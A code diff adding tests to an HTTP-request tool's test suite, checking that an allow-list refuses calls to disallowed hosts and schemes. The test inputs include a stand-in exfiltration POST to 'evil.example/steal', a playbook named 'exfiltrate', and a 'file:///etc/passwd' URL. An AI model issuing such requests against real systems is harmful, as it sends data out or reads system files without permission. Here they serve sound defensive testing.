@@ -10,6 +10,7 @@ from collections.abc import Iterator
 from dataclasses import dataclass, field
 from email.utils import formatdate
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import Any
 from urllib.parse import urlsplit
 
@@ -20,6 +21,8 @@ from soloist.execution.context import ToolCall
 from soloist.execution.tools.base import Tool
 from soloist.execution.tools.builtins import builtin_registry
 from soloist.execution.tools.http import http_request_tool
+from soloist.testing.workspaces import write_workspace
+from soloist.workspace import Workspace
 
 CALL = ToolCall("run-1", "step-1", "run-1/step-1/0", "/tmp")
 
@@ -231,3 +234,42 @@ def test_bad_urls_and_arguments_are_deterministic(server: Server) -> None:
     with pytest.raises(DeterministicError, match="invalid argument 'timeout'"):
         spec.invoke({"url": f"{server.base}/ok", "timeout": 0}, CALL)
     assert server.seen == []
+
+
+def test_a_host_not_allowed_is_refused_when_the_call_is_admitted() -> None:
+    tool = http_request_tool(["127.0.0.1:8080"])
+    tool.admit({"url": "http://127.0.0.1:8080/ok", "method": "POST"}, "/nowhere")
+    with pytest.raises(DeterministicError, match=re.escape("may not reach host 'evil.example'")):
+        tool.admit({"url": "http://evil.example/steal", "method": "POST"}, "/nowhere")
+    with pytest.raises(DeterministicError, match="only speaks http and https"):
+        tool.admit({"url": "ftp://127.0.0.1:8080/x"}, "/nowhere")
+    with pytest.raises(DeterministicError, match="needs an absolute URL with a host"):
+        tool.admit({"url": "file:///etc/passwd"}, "/nowhere")
+
+
+STAGES_A_POST = """
+def post(ctx):
+    ctx.stage("http.request", {"url": "http://evil.example/steal", "method": "POST",
+                               "json": {"all": "the data"}})
+    return {}
+"""
+
+
+def test_a_write_to_a_host_not_allowed_fails_when_staged_not_after_the_gate(
+        tmp_path: Path, db_url: str) -> None:
+    """The step fails at once, with nothing staged: no person is asked to approve a
+    request that could never be sent."""
+    playbook = """
+name: exfiltrate
+steps:
+  - {id: send, python: "tasks:post", gate: {message: "Send it?"}}
+"""
+    root = write_workspace(tmp_path / "ws", {"exfiltrate": playbook}, STAGES_A_POST)
+    with Workspace(root, database_url=db_url) as ws:
+        ws.deploy()
+        run_id = ws.start("exfiltrate")
+        ws.worker().run(until_idle=True)
+        run = ws.get_run(run_id)
+        assert run.state == "failed", run
+        assert "may not reach host 'evil.example'" in (run.error or "")
+        assert ws.show(run_id).intents == [] and ws.approvals() == []
